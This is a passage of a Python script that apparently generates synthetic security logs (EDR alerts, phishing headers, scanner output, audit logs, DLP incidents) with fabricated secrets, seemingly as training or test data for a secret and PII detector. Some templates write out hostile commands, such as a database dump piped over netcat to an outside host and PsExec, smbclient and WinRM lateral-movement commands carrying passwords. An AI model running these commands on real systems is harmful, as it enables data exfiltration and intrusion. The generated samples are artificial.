                                                                                                   r.choice(["block", "pass"]), r.randint(40, 128), r.randint(1, 65535), r.choice([52, 60, 64])),
                 IP(r, "pub"), ",", IP(r, "priv"), ",%s,%d,0,S,%d,,64240,,mss;sackOK;TS;nop;wscale\n" % (port(r), r.choice([22, 443, 3389, 1194]), r.randint(10 ** 8, 4 * 10 ** 9))]
    return C(lang, wrap(r, lang, segs))


def t_panos(r):
    lang = lang_pick(r)
    segs = []
    for _ in range(r.randint(1, 3)):
        src, dst = IP(r, "priv"), IP(r, "pub")
        segs += ["1,2025/%02d/%02d %s:%02d,0%s,TRAFFIC,end,2817,2025/%02d/%02d %s:%02d," % (r.randint(1, 12), r.randint(1, 28), hhmm(r), r.randint(0, 59), rs(r, DG, 11), r.randint(1, 12), r.randint(1, 28), hhmm(r), r.randint(0, 59)),
                 src, ",", dst, ",", IP(r, "pub"), ",", F("IP_ADDRESS", dst.value),
                 ",%s,,,%s,vsys1,trust,untrust,ethernet1/2,ethernet1/1,Log-Forwarding,2025/%02d/%02d %s:%02d,%d,1,%s,%d,%s,%d,0x400064,tcp,%s,%d,%d,%d,%d,,%s,,0,%d,0,0,0,%s,%s\n"
                 % (r.choice(["allow-outbound-web", "default-deny", "block-tor-exit"]), r.choice(["ssl", "web-browsing", "unknown-tcp", "tor"]), r.randint(1, 12), r.randint(1, 28), hhmm(r), r.randint(0, 59),
                    r.randint(10000, 999999), port(r), r.choice([443, 80, 9001]), port(r), r.choice([443, 80, 9001]), r.choice(["allow", "deny", "drop"]),
                    r.randint(100, 900000), r.randint(100, 90000), r.randint(100, 900000), r.randint(1, 400), r.choice(["aged-out", "tcp-fin", "policy-deny"]), r.randint(10 ** 17, 10 ** 18),
                    "Italy", r.choice(["Netherlands", "Russian Federation", "United States"]))]
    return C(lang, wrap(r, lang, segs))


def t_phish_headers(r):
    lang = lang_pick(r)
    ed = r.choice(EVIL)
    victim = email(r, domain=r.choice(CORP))
    sender = r.choice(["notify", "no-reply", "it-support", "billing", "docs"]) + "@" + ed
    segs = ["Return-Path: <", F("EMAIL", sender), ">\nReceived: from mail.%s (unknown [" % ed, IP(r, "pub"), "])\n\tby mx1.%s (Postfix) with ESMTPS id %s\n\tfor <" % (r.choice(CORP), rs(r, UP + DG, 10)),
            F("EMAIL", victim), ">; %s\nAuthentication-Results: mx1.%s; spf=fail smtp.mailfrom=%s; dkim=none; dmarc=fail (p=REJECT) header.from=%s\nX-Originating-IP: [" % (r.choice(["Tue, 11 Mar 2025 09:12:44 +0100", "Wed, 4 Jun 2025 17:01:09 +0000"]), r.choice(CORP), ed, ed),
            IP(r, "pub"), "]\nFrom: \"%s\" <" % r.choice(["DHL Express", "Microsoft 365", "IT Helpdesk", "DocuSign"]), F("EMAIL", sender), ">\nTo: ", F("EMAIL", victim),
            "\nSubject: %s\nX-Mailer: %s\nX-MS-Exchange-Organization-SCL: %d\n" % (r.choice(["Action required: password expires today", "Your parcel is on hold", "Invoice INV-%d overdue" % r.randint(1000, 99999)]),
                                                                                  r.choice(["PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)", "Microsoft Outlook 16.0"]), r.randint(1, 9))]
    if r.random() < 0.5:
        segs += ["\nBody excerpt: \"... to avoid suspension call our support line ", F("PHONE", V.phone_make(r, r.choice(["us", "uk", "it_mob", "it_land"]))), " within 24 hours ...\""]
    return C(lang, wrap(r, lang, segs))


def t_phish_report(r):
    lang = lang_pick(r)
    brand = r.choice(["visa", "mc", "amex"])
    card = V.card_format(r, V.card_digits(r, brand), brand)
    me = email(r, domain=r.choice(CORP))
    if lang == "it":
        segs = ["Segnalazione utente inoltrata al SOC:\n\"Buongiorno, ho ricevuto una mail da ", F("EMAIL", r.choice(["assistenza", "sicurezza"]) + "@" + r.choice(EVIL)),
                " che mi chiedeva di aggiornare i dati. Ho cliccato e ho inserito la carta aziendale ", F("CREDIT_CARD", card), " e poi mi ha chiamato il ",
                F("PHONE", V.phone_make(r, r.choice(["it_mob", "it_land"]))), ". Scusate. ", F("EMAIL", me), "\"\nCosa devo fare adesso? Scrivi i passi di risposta."]
    else:
        segs = ["User report forwarded to SOC:\n\"Hi, I got an email from ", F("EMAIL", r.choice(["security", "payroll", "helpdesk"]) + "@" + r.choice(EVIL)),
                " asking me to re-verify my corporate card. I entered ", F("CREDIT_CARD", card), " before I noticed the URL. They then called me from ",
                F("PHONE", V.phone_make(r, r.choice(["us", "uk", "us"]))), ". Sorry! - ", F("EMAIL", me), "\"\nWhat are the response steps (card block, reset, hunt)?"]
    return C(lang, segs)


def t_mailgw(r):
    lang = lang_pick(r)
    segs = []
    for _ in range(r.randint(2, 4)):
        qid = rs(r, "0123456789ABCDEF", 10)
        segs += ["%s mail-relay-1 postfix/smtpd[%s]: %s: client=unknown[" % (syslog_ts(r), pid(r), qid), IP(r, "pub"), "]\n",
                 "%s mail-relay-1 postfix/cleanup[%s]: %s: message-id=<redacted>\n" % (syslog_ts(r), pid(r), qid),
                 "%s mail-relay-1 postfix/qmgr[%s]: %s: from=<" % (syslog_ts(r), pid(r), qid), F("EMAIL", r.choice(["ap", "invoice", "hr-notice"]) + "@" + r.choice(EVIL)),
                 ">, size=%d, nrcpt=1 (queue active)\n%s mail-relay-1 amavis[%s]: (%s-%s) Blocked SPAM {DiscardedInbound,Quarantined}, <" % (r.randint(2000, 90000), syslog_ts(r), pid(r), pid(r), rs(r, DG, 2)),
                 F("EMAIL", email(r, domain=r.choice(CORP))), ">, Hits: %.3f, tag=-999, kill=6.2, queued_as: %s, %d ms\n" % (r.uniform(6, 40), rs(r, "0123456789ABCDEF", 10), r.randint(100, 9000))]
    return C(lang, wrap(r, lang, segs))


def t_edr_cmd(r):
    lang = lang_pick(r)
    host = r.choice(HOSTS)
    k = r.randrange(6)
    segs = ["EDR alert: %s\nHost: %s  OS: Ubuntu 22.04  Sensor: 7.%d.%d\nUser: %s  PID: %s  PPID: %s\nImage SHA256: %s\nParent: /bin/bash -c\nCommandLine: "
            % (r.choice(["Suspicious credential use on command line", "Possible data exfiltration", "Unusual outbound connection"]), host, r.randint(1, 20), r.randint(1000, 19999),
               r.choice(["www-data", "ubuntu", "root", "jenkins"]), pid(r), pid(r), sha256(r))]
    if k == 0:
        segs += ["curl -s -u %s:" % r.choice(USERS), PW(r), " -X POST https://", IP(r, "priv"), ":%d/api/v1/export -o /tmp/.x" % r.choice([443, 8443, 9200])]
    elif k == 1:
        segs += ["PGPASSWORD=", PW(r), " psql -h ", IP(r, "priv"), " -U %s -d ledger -c \"\\copy customers to '/tmp/c.csv' csv\"" % r.choice(["postgres", "app"])]
    elif k == 2:
        segs += ["mysqldump -h ", IP(r, "priv"), " -u root -p", PW(r), " --all-databases | gzip | nc ", IP(r, "pub"), " %d" % r.choice([4444, 8080, 9001])]
    elif k == 3:
        segs += ["wget -q --header=\"Authorization: Bearer ", F("JWT", jwt(r)), "\" https://api.internal.%s/v2/users?limit=10000" % r.choice(CORP)]
    elif k == 4:
        segs += ["curl -sk -H 'Authorization: token ", F("GITHUB_TOKEN", gh(r)), "' https://api.github.com/orgs/acme/repos?per_page=100"]
    else:
        segs += ["git clone ", F("CREDENTIAL_URL", "https://%s:%s@%s/%s.git" % (r.choice(["ci-bot", "deploy"]), pw_safe(r, "\"'`\\ &#?%@/:;$,[]{}"), r.choice(["git.acme-logistics.it", "gitlab.brightpath.io"]), r.choice(["infra/terraform", "payments/api"]))),
                 " /tmp/.cache/r"]
    segs += ["\nNetwork: outbound to %s:%d (%s)\nVerdict: %s" % (evil_domain(r, True), r.choice([443, 80]), r.choice(["first seen", "rare"]), r.choice(["Detected", "Prevented"]))]
    return C(lang, wrap(r, lang, segs))


def t_edr_win(r):
    lang = lang_pick(r)
    k = r.randrange(3)
    segs = ["Sysmon Event ID 1 (Process Create)\nUtcTime: %s\nProcessGuid: {%s}\nProcessId: %s\nImage: C:\\Windows\\System32\\%s\nCommandLine: "
            % (iso(r), uuid(r), pid(r), r.choice(["cmd.exe", "WindowsPowerShell\\v1.0\\powershell.exe", "net.exe"]))]
    if k == 0:
        segs += ["net use \\\\", IP(r, "priv"), "\\C$ /user:ACME\\%s " % r.choice(["svc_backup", "Administrator", "helpdesk01"]), PW(r)]
    elif k == 1:
        segs += ["cmdkey /add:", IP(r, "priv"), " /user:ACME\\administrator /pass:", PW(r)]
    else:
        segs += ["powershell -nop -c \"$p = ConvertTo-SecureString '", PW(r), "' -AsPlainText -Force; $c = New-Object PSCredential('ACME\\svc_sql', $p); Invoke-Command -ComputerName ", IP(r, "priv"), " -Credential $c -ScriptBlock {whoami}\""]
    segs += ["\nUser: ACME\\%s\nLogonId: 0x%x\nHashes: MD5=%s,SHA256=%s\nParentImage: C:\\Windows\\System32\\wsmprovhost.exe" % (r.choice(["jdoe", "mrossi"]), r.randint(0x10000, 0xfffffff), md5(r).upper(), sha256(r).upper())]
    return C(lang, wrap(r, lang, segs))


def t_timeline(r):
    lang = lang_pick(r)
    marker = r.choice(["TLP:AMBER", "TLP:RED", "CONFIDENTIAL", "TLP:AMBER+STRICT", "STRICTLY CONFIDENTIAL", "RISERVATO"])
    segs = [F("CONFIDENTIAL_MARKER", marker), " - Incident INC-%d timeline (UTC)\n\n" % r.randint(10000, 99999)]
    a_ip = IP(r, "pub")
    victim = email(r, domain=r.choice(CORP))
    rows = [["- %s first failed logins for " % hhmm(r), F("EMAIL", victim), " from ", a_ip, " (ASN %d)\n" % r.randint(1000, 65000)],
            ["- %s MFA push fatigue, user approved; session from " % hhmm(r), F("IP_ADDRESS", a_ip.value), "\n"],
            ["- %s attacker created access key " % hhmm(r), F("AWS_ACCESS_KEY", V.aws_akid(r, "AKIA")), " for user ops-temp\n"],
            ["- %s exfil to s3://%s (%.1f GB), eventID %s\n" % (hhmm(r), r.choice(["backup-sync-" + rs(r, LO + DG, 6), "tmp-share-" + rs(r, LO, 5)]), r.uniform(0.5, 80), uuid(r))],
            ["- %s lateral movement to %s (" % (hhmm(r), r.choice(HOSTS)), IP(r, "priv"), ") via WinRM\n"],
            ["- %s C2 beacon to %s every 60s (JA3 %s)\n" % (hhmm(r), evil_domain(r, True), md5(r))]]
    if r.random() < 0.5:
        rows.append(["- %s found token " % hhmm(r), F("GITLAB_TOKEN", V.gitlab_token(r, "pat")), " in the runner's env dump\n"])
    if r.random() < 0.4:
        rows.append(["- %s user's phone for callback: " % hhmm(r), F("PHONE", V.phone_make(r, r.choice(["it_mob", "us", "uk"]))), "\n"])
    k = r.randint(3, len(rows))
    for row in rows[:k]:
        segs += row
    return C(lang, wrap(r, lang, segs, before=""))


def t_secretscan(r):
    lang = lang_pick(r)
    det = r.choice(["Slack", "SlackWebhook", "Stripe", "OpenAI", "Anthropic", "Gitlab", "Github", "AWS", "GCP"])
    if det == "Slack":
        val = [F("SLACK_TOKEN", V.slack_token(r))]
    elif det == "SlackWebhook":
        val = [F("SLACK_WEBHOOK", V.slack_webhook(r))]
    elif det == "Stripe":
        val = [F("STRIPE_KEY", V.stripe_key(r))]
    elif det == "OpenAI":
        val = [F("OPENAI_KEY", V.openai_key(r))]
    elif det == "Anthropic":
        val = [F("ANTHROPIC_KEY", V.anthropic_key(r))]
    elif det == "Gitlab":
        val = [F("GITLAB_TOKEN", V.gitlab_token(r))]
    elif det == "Github":
        val = [F("GITHUB_TOKEN", gh(r))]
    elif det == "GCP":
        val = [F("GOOGLE_API_KEY", V.google_key(r))]
    else:
        val = [F("AWS_ACCESS_KEY", V.aws_akid(r, "AKIA")), "\nRawV2: ", F("AWS_SECRET_KEY", V.aws_secret(r))]
    segs = ["trufflehog git https://git.%s/platform/%s.git --only-verified\n\n" % (r.choice(CORP), r.choice(["infra", "billing-api", "etl"])),
            "Found verified result \U0001f437\U0001f511\nDetector Type: %s\nDecoder Type: PLAIN\nRaw result: " % det] + val + [
            "\nCommit: %s\nEmail: %s <" % (sha1(r), " ".join(V.person(r))), F("EMAIL", email(r, domain=r.choice(CORP))),
            ">\nFile: %s\nLine: %d\nRepository: https://git.%s/platform/app.git\nTimestamp: %s +0000 UTC\n" % (r.choice(["config/settings.py", ".env.production", "deploy/values.yaml", "scripts/notify.sh"]), r.randint(3, 300), r.choice(CORP), iso(r)[:19].replace("T", " "))]
    return C(lang, wrap(r, lang, segs))


def t_vulnscan(r):
    lang = lang_pick(r)
    host = IP(r, "priv")
    segs = ["nuclei -l targets.txt -severity high,critical\n[%s] [http] [critical] http://" % cve(r), host, ":%d/cgi-bin/.%%2e/.%%2e/bin/sh\n" % r.choice([80, 8080]),
            "[exposed-env-file] [http] [high] https://%s/.env [\"DB_USERNAME=app\",\"DB_PASSWORD=" % r.choice(["staging.acme-logistics.it", "dev.brightpath.io"]), PW(r, "\"'`\\ &#?%@/:;$,[]"), "\""]
    if r.random() < 0.6:
        segs += [",\"AWS_ACCESS_KEY_ID=", F("AWS_ACCESS_KEY", V.aws_akid(r, "AKIA")), "\",\"AWS_SECRET_ACCESS_KEY=", F("AWS_SECRET_KEY", V.aws_secret(r)), "\""]
    segs += ["]\n[ssh-weak-algo-supported] [javascript] [low] ", F("IP_ADDRESS", host.value), ":22 [\"diffie-hellman-group1-sha1\"]\n[tech-detect:nginx] [http] [info] https://%s [\"nginx/1.18.0\"]\n" % r.choice(["staging.acme-logistics.it", "dev.brightpath.io"])]
    return C(lang, wrap(r, lang, segs))


def t_terraform(r):
    lang = lang_pick(r)
    a = acct(r)
    segs = ["Terraform will perform the following actions:\n\n  # aws_db_instance.ledger will be updated in-place\n  ~ resource \"aws_db_instance\" \"ledger\" {\n        id                     = \"ledger-prod\"\n        arn                    = \"arn:aws:rds:eu-south-1:%s:db:ledger-prod\"\n      ~ engine_version         = \"15.5\" -> \"15.7\"\n      ~ password               = (sensitive value)\n        # (41 unchanged attributes hidden)\n    }\n\n" % a,
            "  # aws_instance.bastion will be created\n  + resource \"aws_instance\" \"bastion\" {\n      + ami                          = \"ami-0%s\"\n      + instance_type                = \"t3.micro\"\n      + private_ip                   = \"" % hexs(r, 16),
            IP(r, "priv"), "\"\n      + id                           = (known after apply)\n      + user_data                    = <<-EOT\n            #!/bin/bash\n            export DB_PASSWORD=\"", PW(r),
            "\"\n            export SLACK_WEBHOOK_URL=\"", F("SLACK_WEBHOOK", V.slack_webhook(r)) if r.random() < 0.5 else F("STRIPE_KEY", V.stripe_key(r)),
            "\"\n        EOT\n      + tags                         = {\n          + \"Owner\" = \"", F("EMAIL", email(r, domain=r.choice(CORP))), "\"\n        }\n    }\n\nPlan: 1 to add, 1 to change, 0 to destroy."]
    return C(lang, wrap(r, lang, segs))


def t_k8s_audit(r):
    lang = lang_pick(r)
    segs = ['{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"%s","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/%s/secrets/%s","verb":"get","user":{"username":"'
            % (uuid(r), r.choice(["prod", "payments", "kube-system"]), r.choice(["db-creds", "smtp-relay", "registry-pull"])),
            F("EMAIL", email(r, domain=r.choice(CORP)), ctx="json"), '","groups":["system:authenticated","oidc:sre"]},"sourceIPs":["', IP(r, r.choice(["pub", "priv"]), ctx="json"),
            '"],"userAgent":"kubectl/v1.29.3 (linux/amd64) kubernetes/6813625","objectRef":{"resource":"secrets","namespace":"prod","name":"db-creds","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":200},"requestReceivedTimestamp":"%s","stageTimestamp":"%s"}' % (iso(r), iso(r))]
    if r.random() < 0.5:
        segs += ["\n\nkubectl get events -n prod:\n%ds  Warning  BackOff  pod/api-%s-%s  Back-off restarting failed container api in pod api-%s-%s\n%ds  Normal  Scheduled  pod/api-%s-%s  Successfully assigned prod/api to %s, pod IP "
                 % (r.randint(5, 300), hexs(r, 10), rs(r, LO + DG, 5), hexs(r, 10), rs(r, LO + DG, 5), r.randint(5, 300), hexs(r, 10), rs(r, LO + DG, 5), r.choice(HOSTS)), IP(r, "priv"), "\n"]
    return C(lang, wrap(r, lang, segs))


def t_k8s_secret_b64(r):
    """kubectl get secret -o yaml: values are base64 (evasion:base64)"""
    lang = lang_pick(r)
    user = r.choice(["app", "ledger_rw", "smtp-relay"])
    p = pw_safe(r, "\"'`\\ ")
    segs = ["Attacker ran this from the compromised pod (audit log shows it):\n$ kubectl get secret db-creds -n prod -o yaml\napiVersion: v1\ndata:\n  username: %s\n  password: " % b64s(user),
            F("PASSWORD", b64s(p), "b64")]
    if r.random() < 0.5:
        segs += ["\n  aws_secret_access_key: ", F("AWS_SECRET_KEY", b64s(V.aws_secret(r)), "b64")]
    segs += ["\nkind: Secret\nmetadata:\n  creationTimestamp: \"%s\"\n  name: db-creds\n  namespace: prod\n  resourceVersion: \"%d\"\n  uid: %s\ntype: Opaque" % (iso(r)[:19] + "Z", r.randint(10 ** 6, 10 ** 8), uuid(r))]
    c = C(lang, wrap(r, lang, segs), tags={"evasion:base64"}, allow={b64s(user)})
    return c


def t_har(r):
    lang = lang_pick(r)
    basic = r.random() < 0.35
    segs = ['{"log": {"entries": [{"startedDateTime": "%s", "time": %.2f, "serverIPAddress": "' % (iso(r), r.uniform(20, 900)), IP(r, r.choice(["pub", "priv", "v6"]), ctx="json"),
            '", "request": {"method": "POST", "url": "https://%s/api/session", "httpVersion": "HTTP/2", "headers": [{"name": "content-type", "value": "application/x-www-form-urlencoded"}, {"name": "x-request-id", "value": "%s"}, {"name": "authorization", "value": "'
            % (r.choice(["portal.northwind-bank.com", "sso.acme-logistics.it"]), uuid(r))]
    tags = set()
    if basic:
        u = r.choice(USERS)
        p = pw_safe(r)
        segs += ["Basic ", F("PASSWORD", b64s(u + ":" + p), "b64")]
        tags.add("evasion:base64")
    else:
        segs += ["Bearer ", F("JWT", jwt(r), ctx="json")]
    segs += ['"}, {"name": "cookie", "value": "_ga=GA1.2.%d.%s; sid=%s"}], "postData": {"mimeType": "application/x-www-form-urlencoded", "text": "username=' % (r.randint(10 ** 8, 10 ** 9), epoch(r), hexs(r, 32)),
             F("EMAIL", email(r, domain=r.choice(CORP)), ctx="json"), '&password=', PW(r, ctx="url"),
             '"}}, "response": {"status": %d, "headers": [{"name": "x-amzn-trace-id", "value": "Root=1-%s-%s"}]}}]}}' % (r.choice([200, 401, 302]), hexs(r, 8), hexs(r, 24))]
    return C(lang, wrap(r, lang, segs), tags=tags)


def t_splunk(r):
    lang = lang_pick(r)
    segs = ["index=auth sourcetype=linux_secure action=failure | stats count dc(user) as users by src_ip, user | where count > 20\n\nsrc_ip             user                         count  users\n"]
    for _ in range(r.randint(2, 5)):
        ip = IP(r, "pub")
        u = F("EMAIL", email(r, domain=r.choice(CORP))) if r.random() < 0.5 else r.choice(USERS)
        segs += [ip, " " * max(1, 19 - len(ip.value)), u, " " * max(1, 29 - len(u.value if isinstance(u, F) else u)), "%-6d %d\n" % (r.randint(21, 4000), r.randint(1, 40))]
    return C(lang, wrap(r, lang, segs))


def t_kql(r):
    lang = lang_pick(r)
    segs = ["SigninLogs\n| where ResultType in (50126, 50053)\n| summarize Attempts=count() by UserPrincipalName, IPAddress, Location\n| order by Attempts desc\n\n| UserPrincipalName | IPAddress | Location | Attempts |\n|---|---|---|---|\n"]
    for _ in range(r.randint(2, 5)):
        segs += ["| ", F("EMAIL", email(r, domain=r.choice(CORP))), " | ", IP(r, r.choice(["pub", "pub", "v6"])), " | %s | %d |\n" % (r.choice(["RU", "CN", "NL", "US", "BR", "IT"]), r.randint(5, 900))]
    return C(lang, wrap(r, lang, segs))


def t_elastic(r):
    lang = lang_pick(r)
    segs = ['{"@timestamp":"%s","event":{"id":"%s","kind":"alert","module":"endpoint","severity":73},"rule":{"id":"%s","name":"%s"},"host":{"name":"%s","mac":["%s"],"ip":["'
            % (iso(r), hexs(r, 20), uuid(r), r.choice(["Potential Credential Access via Command Line", "Suspicious Network Connection via curl"]), r.choice(HOSTS), mac(r, "-").upper()),
            IP(r, "priv", ctx="json"), '"]},"user":{"name":"%s","email":"' % r.choice(["jdoe", "mrossi"]), F("EMAIL", email(r, domain=r.choice(CORP)), ctx="json"),
            '"},"process":{"pid":%s,"entity_id":"%s","command_line":"' % (pid(r), b64s(hexs(r, 24))[:32])]
    k = r.randrange(3)
    if k == 0:
        segs += ["curl -H 'x-api-key: ", F("ANTHROPIC_KEY", V.anthropic_key(r), ctx="json"), "' https://api.anthropic.com/v1/messages -d @prompt.json"]
    elif k == 1:
        segs += ["python3 sync.py --openai-key ", F("OPENAI_KEY", V.openai_key(r), ctx="json")]
    else:
        segs += ["redis-cli -h ", IP(r, "priv", ctx="json"), " -a ", PW(r), " --scan --pattern 'session:*'"]
    segs += ['","hash":{"sha1":"%s"}},"source":{"ip":"' % sha1(r), IP(r, "pub", ctx="json"), '","port":%s}}' % port(r)]
    return C(lang, wrap(r, lang, segs))


def t_privkey(r):
    lang = lang_pick(r)
    kind = r.choice(["RSA PRIVATE KEY", "OPENSSH PRIVATE KEY", "EC PRIVATE KEY", "PRIVATE KEY"])
    segs = ["Forensic triage of %s (%s): world-readable file /home/%s/.ssh/%s (mode 0644, mtime %s, sha256 %s):\n\n" % (r.choice(HOSTS), r.choice(["prod", "staging", "ci"]),
                                                                                                                     r.choice(["ubuntu", "deploy", "jenkins"]), r.choice(["id_rsa", "id_ed25519", "deploy_key"]), epoch(r), sha256(r)),
            F("PRIVATE_KEY", V.pem_make(r, kind)), "\n\nauthorized_keys on %d hosts reference it. Was it used from " % r.randint(2, 40), IP(r, "pub"), "?"]
    return C(lang, segs)


def t_alertmanager(r):
    lang = lang_pick(r)
    segs = ["The on-call rota stopped getting pages after the change below. Config as deployed:\n\nglobal:\n  resolve_timeout: 5m\n  smtp_smarthost: 'smtp.%s:587'\n  smtp_from: '" % r.choice(CORP),
            F("EMAIL", "alertmanager@" + r.choice(CORP)), "'\n  smtp_auth_username: 'alertmanager'\n  smtp_auth_password: '", PW(r), "'\n  slack_api_url: '", F("SLACK_WEBHOOK", V.slack_webhook(r)),
            "'\nroute:\n  receiver: sre-pager\n  group_wait: 30s\nreceivers:\n- name: sre-pager\n  pagerduty_configs:\n  - routing_key: <secret>\n"]
    return C(lang, segs)


def t_dlp(r):
    lang = lang_pick(r)
    k = r.randrange(4)
    sender = F("EMAIL", email(r, domain=r.choice(CORP)))
    rcpt = F("EMAIL", email(r, domain=r.choice(["gmail.com", "proton.me", "outlook.com", "libero.it"])))
    segs = ["DLP incident %d - policy \"PII outbound\" - action: %s\nSender: " % (r.randint(100000, 999999), r.choice(["Blocked", "Quarantined", "Audited"])), sender, "\nRecipient: ", rcpt,
            "\nMatches: %d  Masked sample: %s\nExcerpt: \"" % (r.randint(1, 40), r.choice(["4***********%04d" % r.randint(0, 9999), "IT** **** **** **** **** ***%04d" % r.randint(0, 9999), "***-**-%04d" % r.randint(1, 9999)]))]
    if k == 0:
        segs += ["bonifico sull'IBAN ", F("IBAN", V.iban_format(r, V.iban_make(r, r.choice(["IT", "IT", "DE", "FR", "ES"])))), " entro venerdì"]
    elif k == 1:
        segs += ["employee SSN ", F("US_SSN", V.ssn_make(r)), ", start date 2025-04-01"]
    elif k == 2:
        segs += ["codice fiscale ", F("IT_FISCAL_CODE", V.cf_make(r)), " e P.IVA ", F("IT_VAT", V.piva_make(r))]
    else:
        b = r.choice(["visa", "mc", "discover"])
        segs += ["card on file ", F("CREDIT_CARD", V.card_format(r, V.card_digits(r, b), b)), " exp %02d/%02d" % (r.randint(1, 12), r.randint(26, 30))]
    segs += ["\"\nFingerprint: %s" % sha256(r)]
    return C(lang, wrap(r, lang, segs))


def t_edr_tools(r):
    """attacker / admin tools that take a password on the command line"""
    lang = lang_pick(r)
    host = IP(r, "priv")
    u = r.choice(["administrator", "svc_backup", "sa", "admin", "root"])
    k = r.randrange(12)
    if k == 0:
        cmd = ["sqlcmd -S ", host, " -U sa -P ", PW(r), " -Q \"SELECT name FROM sys.databases\""]
    elif k == 1:
        cmd = ["ldapsearch -x -H ldap://", host, " -D \"cn=admin,dc=acme,dc=lan\" -w ", PW(r), " -b \"dc=acme,dc=lan\" \"(objectClass=person)\" mail"]
    elif k == 2:
        cmd = ["smbclient //", host, "/backup -U %s%%" % u, PW(r, "\"'`\\ &#?%@/:;$,%"), " -c 'recurse; prompt; mget *'"]
    elif k == 3:
        cmd = ["PsExec64.exe \\\\", host, " -u ACME\\%s -p " % u, PW(r), " -accepteula cmd /c whoami"]
    elif k == 4:
        cmd = ["xfreerdp /v:", host, " /u:%s /p:" % u, PW(r), " /cert:ignore +clipboard"]
    elif k == 5:
        cmd = ["wget --http-user=%s --http-password=" % u, PW(r), " http://", host, ":8080/backup/db.tar.gz"]
    elif k == 6:
        cmd = ["docker login -u %s -p " % r.choice(["ci", "deploy"]), PW(r), " registry.acme.lan"]
    elif k == 7:
        cmd = ["kubectl create secret generic db-creds --from-literal=username=app --from-literal=password=", PW(r), " -n prod"]
    elif k == 8:
        cmd = ["openssl pkcs12 -export -in svc.crt -inkey svc.key -out svc.p12 -passout pass:", PW(r)]
    elif k == 9:
        cmd = ["mysql --host=", host, " --user=root --password=", PW(r), " -e 'select * from users' crm"]
    elif k == 10:
        cmd = ["redis-cli -h ", host, " -p 6379 -a ", PW(r), " CONFIG GET dir"]
    else:
        cmd = ["net use \\\\", host, "\\ADMIN$ /user:ACME\\%s " % u, PW(r)]
    segs = ["%s alert (%s)\nhost=%s user=%s pid=%s ppid=%s sha256=%s\ncmdline: " % (r.choice(["CrowdStrike", "SentinelOne", "Defender for Endpoint", "Elastic Defend"]),
                                                                                 r.choice(["Credential in command line", "Lateral movement tool", "Suspicious admin tool"]),
                                                                                 r.choice(HOSTS), r.choice(["jdoe", "SYSTEM", "root", "www-data"]), pid(r), pid(r), sha256(r))] + cmd
    return C(lang, wrap(r, lang, segs))


def t_hydra(r):
    lang = lang_pick(r)
    segs = ["Red-team report excerpt (authorised test, %s):\n" % r.choice(["Q1", "Q2", "Q3"])]
    for _ in range(r.randint(1, 3)):
        svc, prt = r.choice([("ssh", 22), ("ftp", 21), ("rdp", 3389), ("mysql", 3306), ("http-post-form", 443)])
        segs += ["[%d][%s] host: " % (prt, svc), IP(r, "priv"), "   login: %s   password: " % r.choice(USERS), PW(r), "\n"]
    segs += ["1 of 1 target successfully completed, %d valid passwords found\nHydra (https://github.com/vanhauser-thc/thc-hydra) finished at 2025-%02d-%02d %s:%02d" % (r.randint(1, 3), r.randint(1, 12), r.randint(1, 28), hhmm(r), r.randint(0, 59))]
    return C(lang, wrap(r, lang, segs))


def t_presigned(r):
    lang = lang_pick(r)
    key = V.aws_akid(r, "AKIA")
    segs = [IP(r, "pub"), " - - [%s] \"GET /%s/%s?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=" % (clf_ts(r), r.choice(["acme-prod-exports", "finance-eu"]), r.choice(["dump.sql.gz", "customers.csv"])),
            F("AWS_ACCESS_KEY", key), "%%2F2025%02d%02d%%2Feu-south-1%%2Fs3%%2Faws4_request&X-Amz-Date=2025%02d%02dT%02d%02d%02dZ&X-Amz-Expires=604800&X-Amz-SignedHeaders=host&X-Amz-Signature=%s HTTP/1.1\" 200 %d \"-\" \"%s\"\n"
            % (r.randint(1, 12), r.randint(1, 28), r.randint(1, 12), r.randint(1, 28), r.randint(0, 23), r.randint(0, 59), r.randint(0, 59), sha256(r), r.randint(10 ** 5, 10 ** 9), r.choice(UAS))]
    return C(lang, wrap(r, lang, segs, before="S3 server access log shows a download of our export from an unknown IP:\n"))


POS = [("sshd", t_sshd, 6), ("sudo_pam", t_sudo_pam, 5), ("win_logon", t_win_4625, 5), ("okta", t_okta, 5), ("azure_signin", t_azure_signin, 4),
       ("cloudtrail", t_cloudtrail, 5), ("guardduty", t_guardduty, 3), ("gcp_audit", t_gcp_audit, 3), ("suricata", t_suricata, 5), ("snort", t_snort, 3),
       ("nginx", t_nginx, 7), ("modsec", t_modsec, 3), ("iptables", t_iptables, 3), ("pfsense", t_pfsense, 3), ("panos", t_panos, 2),
       ("phish_headers", t_phish_headers, 4), ("phish_report", t_phish_report, 2), ("mailgw", t_mailgw, 3), ("edr_cmd", t_edr_cmd, 7), ("edr_win", t_edr_win, 4),
       ("timeline", t_timeline, 4), ("secretscan", t_secretscan, 6), ("vulnscan", t_vulnscan, 3), ("terraform", t_terraform, 3), ("k8s_audit", t_k8s_audit, 3),
       ("har", t_har, 4), ("splunk", t_splunk, 3), ("kql", t_kql, 3), ("elastic", t_elastic, 4), ("privkey", t_privkey, 2), ("alertmanager", t_alertmanager, 2),
       ("dlp", t_dlp, 3), ("edr_tools", t_edr_tools, 8), ("hydra", t_hydra, 2), ("presigned", t_presigned, 2)]
B64_POS = [("k8s_secret_b64", t_k8s_secret_b64, 1), ("har", t_har, 1)]


# ------------------------------------------------------------------ negative templates (same domains, nothing sensitive)
def n_malware_report(r):
    lang = lang_pick(r)
    body = ["Sandbox report %s\nFile: invoice_%d.pdf.exe\nMD5: %s\nSHA1: %s\nSHA256: %s\nImphash: %s\nFirst seen: %s (epoch %s)\n" % (uuid(r), r.randint(1000, 9999), md5(r), sha1(r), sha256(r), md5(r), iso(r), epoch(r)),
            "Network IOCs: %s, %s (DNS only, sinkholed)\nMutex: Global\\%s\nDropped: C:\\Users\\Public\\%s.dll (SHA256 %s)\nYARA: %s\nMITRE: T1059.001, T1105, T1547.001\nExploits %s\n"
            % (evil_domain(r, True), evil_domain(r, True), uuid(r).upper(), rs(r, LO, 8), sha256(r), r.choice(["Win_Trojan_AgentTesla_2", "MAL_Emotet_Loader_Jan24"]), cve(r))]
    return C(lang, wrap(r, lang, body))


def n_ps_encoded(r):
    lang = lang_pick(r)
    cmd = harmless_ps(r)
